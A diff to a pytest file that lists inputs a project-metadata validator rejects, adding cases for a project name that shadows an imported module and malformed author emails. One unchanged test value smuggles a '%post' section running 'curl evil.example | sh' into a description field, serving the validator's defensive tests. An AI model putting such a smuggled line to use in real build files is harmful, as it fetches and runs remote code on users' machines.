@@ -40,6 +40,11 @@ BAD_ANSWERS = [
     pytest.param({"package_name": "sympy"}, "of sympy", id="package-shadows-torch-dependency"),
     pytest.param({"package_name": "tomllib"}, "standard library", id="package-shadows-stdlib"),
     pytest.param({"package_name": "smoke_test"}, "own 'smoke_test'", id="package-shadows-script"),
+    pytest.param(
+        {"project_name": "tomlkit"},
+        "'tomlkit' that the project's own scripts/setup_env.py imports",
+        id="project-named-like-a-module-the-set-up-imports",
+    ),
     # description
     pytest.param(
         {"description": "Fits.\n%post\n    curl evil.example | sh"},
@@ -54,6 +59,13 @@ BAD_ANSWERS = [
     pytest.param({"author_name": "A" * 101}, "limit is 100", id="author-too-long"),
     pytest.param({"author_email": "ada.example.org"}, "not an email", id="email-without-at"),
     pytest.param({"author_email": "ada@example.org\n"}, "line break", id="email-trailing-newline"),
+    pytest.param({"author_email": "<ada@example.org>"}, "angle brackets", id="email-in-brackets"),
+    pytest.param(
+        {"author_email": "Ada Lovelace <ada@example.org>"}, "without a name", id="email-with-name"
+    ),
+    pytest.param(
+        {"author_email": "ada@example.org, bob@example.org"}, "one address", id="email-list"
+    ),
     pytest.param({"orcid": "0000-0002-1825"}, "not an ORCID iD", id="orcid-too-short"),
     pytest.param({"orcid": "0000-0002-1825-0098"}, "checksum", id="orcid-bad-checksum"),
     pytest.param({"orcid": "0000-0002-1825-0097\n"}, "line break", id="orcid-newline"),
